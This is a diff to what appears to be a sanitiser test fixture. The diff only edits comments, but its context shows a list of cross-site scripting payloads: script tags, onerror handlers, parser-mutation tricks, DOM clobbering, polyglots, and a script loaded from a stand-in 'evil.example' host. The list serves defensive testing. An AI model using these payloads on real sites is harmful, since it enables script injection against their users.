@@ -1,5 +1,5 @@
 const payloads = {
-  // Scripts
+  // Scripts.
   script: "<script>attacked(1)</script>",
   "script in capitals": "<SCRIPT>attacked(1)</SCRIPT>",
   "script with a source": '<script src="https://evil.example/x.js"></script>',
@@ -231,7 +231,7 @@ const payloads = {
   "document type": '<!DOCTYPE html [<!ENTITY x "<img src=x onerror=attacked(1)>">]><p>&x;</p>',
   "comment in a title of a table": "<table><caption><!--</caption><img src=x onerror=attacked(1)>--></table>",
 
-  // Trees that a second parser builds differently
+  // Trees that a second parser builds differently.
   "form in a form": "<form><div></form><form><style></div><img src=x onerror=attacked(1)></style>",
   "table in a paragraph": "<p><table><img src=x onerror=attacked(1)></table></p>",
   "link in a link": '<a href="https://example.com"><table><a href="javascript:attacked(1)">رابط</a></table></a>',
@@ -305,7 +305,7 @@ const payloads = {
   "film with a poster": '<video poster="https://evil.example/pixel.gif"></video>',
   "dialog over the page": "<dialog open>سجّل الدخول من جديد <input></dialog>",
 
-  // Names that replace the page's own
+  // Names that replace those of the page.
   "name of the document's parts": '<img name="getElementById" src=x><form name="cookie"></form>',
   "id that is a setting":
     '<a id="config" href="https://evil.example">رابط</a><a id="config" name="url" href="x:y">رابط</a>',
@@ -319,7 +319,7 @@ const payloads = {
   "attribute of every object": '<p constructor="x" __proto__="y" hasownproperty="z" tostring="attacked(1)">نص</p>',
   "part that is replaced": '<slot name="x" onslotchange=attacked(1)>نص</slot><p slot="x" is="x-y" part="z">نص</p>',
 
-  // For many contexts at once
+  // Texts that attack in many contexts at once.
   "polyglot of many places":
     "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=attacked(1) )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=attacked(1)//>\\x3e",
   "polyglot of attributes": "\" onclick=attacked(1)//<button ' onclick=attacked(1)//> */ attacked(1)//",
@@ -331,7 +331,7 @@ const payloads = {
 
 /**
  * Written content that attacks its readers: the families of published evasion lists, and payloads that have broken
- * sanitisers. Every test that shows content uses it, in the API and in a browser: a payload that runs calls `attacked`.
+ * sanitisers. Every test that shows content uses it, in the API and in a browser. A payload that runs calls `attacked`.
  */
 export const hostileHtml: readonly { name: string; html: string }[] = Object.entries(payloads).map(([name, html]) => ({
   name,
